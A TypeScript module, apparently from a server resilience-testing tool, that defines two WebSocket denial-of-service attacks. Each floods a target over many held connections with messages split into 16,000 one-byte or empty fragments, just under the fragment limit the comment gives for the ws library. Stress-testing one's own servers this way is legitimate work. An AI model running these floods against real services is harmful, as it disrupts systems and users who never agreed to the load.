import type { HostileAttack } from '../hostileAttack.ts'
import { flood } from '../target.ts'
import { encodeFrame, keepWebSockets, OPCODE } from '../webSocket.ts'

/** Fragments of a message; `ws` refuses more than 16,384. */
const FRAGMENTS = 16_000
const CONNECTIONS = { full: 16, small: 8 }

function floodFragments(name: string, title: string, payload: string): HostileAttack {
  return {
    name,
    title,
    connections: CONNECTIONS,
    begin(target, connections) {
      const fragment = encodeFrame(OPCODE.continuation, Buffer.from(payload), false)
      const message = Buffer.concat([
        encodeFrame(OPCODE.text, Buffer.from('{'), false),
        ...Array(FRAGMENTS).fill(fragment),
        encodeFrame(OPCODE.continuation),
      ])
      keepWebSockets(target, connections, ({ socket }) => flood(socket, message))
    },
  }
}

export const fragments: readonly HostileAttack[] = [
  floodFragments('ws-fragments', 'WebSocket: 1-byte fragments', ' '),
  floodFragments('ws-empty-fragments', 'WebSocket: empty fragments', ''),
]
